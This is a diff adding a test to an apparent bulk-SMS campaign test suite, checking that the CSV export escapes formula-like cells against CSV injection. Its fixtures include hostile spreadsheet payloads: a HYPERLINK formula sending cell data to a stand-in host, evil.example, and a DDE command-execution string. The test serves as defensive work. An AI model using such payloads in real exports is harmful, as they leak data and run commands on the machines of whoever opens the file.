@@ -99,6 +99,25 @@ describe('bulk campaigns', () => {
     expect(rows.find((r) => r.phone === '+14155550101')).toMatchObject({ status: 'delivered', reasonCode: '' });
   });
 
+  test('the CSV export shows formula-like cells as text (OWASP CSV injection) and keeps phone numbers as they are', async () => {
+    const g = await group(t.api, 'All');
+    const codes = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '@SUM(1+1)', '-2+3', '+cmd|\' /C calc\'!A0', 'plain text'];
+    for (const [i, code] of codes.entries()) await contact(t.api, `+1415555030${i}`, [g], { customFields: { code } });
+    const id = (await t.api.post('/campaigns', { name: 'Formulas', kind: 'bulk', text: '{{code}}', groupIds: [g] })).body.id as string;
+    expect((await t.api.post(`/campaigns/${id}/start`)).status).toBe(200);
+    await t.host.drain();
+    const res = await fetch(`${t.url}/api/campaigns/${id}/export`, { headers: { 'x-api-key': 'dfs_test_dev_key' } });
+    expect(res.status).toBe(200);
+    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => [r.phone, r.text]).sort()).toEqual([
+      ['+14155550300', `'${codes[0]}`],
+      ['+14155550301', `'${codes[1]}`],
+      ['+14155550302', `'${codes[2]}`],
+      ['+14155550303', `'${codes[3]}`],
+      ['+14155550304', 'plain text'],
+    ]);
+  });
+
   test('a batch task run twice sends nobody twice, and a stale one is dropped', async () => {
     const g = await group(t.api, 'All');
     for (let i = 0; i < 5; i++) await contact(t.api, `+1415555020${i}`, [g]);
